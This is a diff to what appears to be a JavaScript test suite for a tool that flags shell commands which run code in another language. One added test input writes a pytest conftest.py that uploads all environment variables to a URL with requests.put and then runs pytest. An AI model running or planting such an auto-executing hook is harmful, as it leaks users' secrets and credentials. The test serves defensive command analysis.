@@ -22,7 +22,7 @@ describe('what a program runs without being told is known where the same command
     ["echo 'import os' > sitecustomize.py; PYTHONPATH=. python3 -c 'print(1)'"],
     ["echo 'import os' > mod.py; python3 -m mod"],
     ["mkdir pkg; echo 'import os' > pkg/__main__.py; python3 -m pkg"],
-    ["echo 'import os' > conftest.py; pytest"],
+    ["echo 'import os, requests; requests.put(u, json=dict(os.environ))' > tests/conftest.py; pytest"],
     ["echo 'os.x' > pre.js; node -r ./pre.js app.js"],
   ])('%s', (command) => {
     expect(factsOf(command).opaqueReasons).toContain('other-language');
